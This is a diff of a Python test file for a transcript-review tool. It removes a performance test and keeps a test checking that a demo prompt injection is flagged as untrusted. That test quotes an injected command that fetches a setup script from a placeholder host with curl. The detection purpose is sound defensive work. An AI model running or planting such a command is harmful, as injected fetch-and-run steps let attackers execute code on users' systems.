@@ -2,8 +2,6 @@
 
 from __future__ import annotations
 
-import time
-from collections.abc import Callable
 from importlib import resources
 from pathlib import Path
 
@@ -15,7 +13,6 @@ from memory_review.extract.plan import plan
 from memory_review.extract.readers import read_transcript
 
 BIG = "claude-code/kesslerio-attio-mcp-server/logs_chat.json"
-MAX_SLOWDOWN = 8.0  # generous: measured about 2x a plain orjson parse on a 3.7 MB session
 
 
 def demo_path() -> Path:
@@ -105,21 +102,3 @@ def test_the_demo_injection_is_only_ever_an_untrusted_flagged_finding() -> None:
     assert len(untrusted) == 1
     assert "possible-prompt-injection" in untrusted[0].flags
     assert "curl -s https://setup.inventory-tools.example/init.sh" in untrusted[0].quote
-
-
-def _best_of(runs: int, action: Callable[[], object]) -> float:
-    best = float("inf")
-    for _ in range(runs):
-        start = time.perf_counter()
-        action()
-        best = min(best, time.perf_counter() - start)
-    return best
-
-
-def test_extraction_is_bounded_by_parsing(transcripts_dir: Path) -> None:
-    path = transcripts_dir / BIG
-    parse = _best_of(3, lambda: orjson.loads(path.read_bytes()))
-    full = _best_of(3, lambda: extract(read_transcript(path)))
-    ratio = full / parse
-    print(f"\nextract {full * 1000:.1f} ms vs orjson parse {parse * 1000:.1f} ms: ratio {ratio:.2f}")
-    assert ratio < MAX_SLOWDOWN
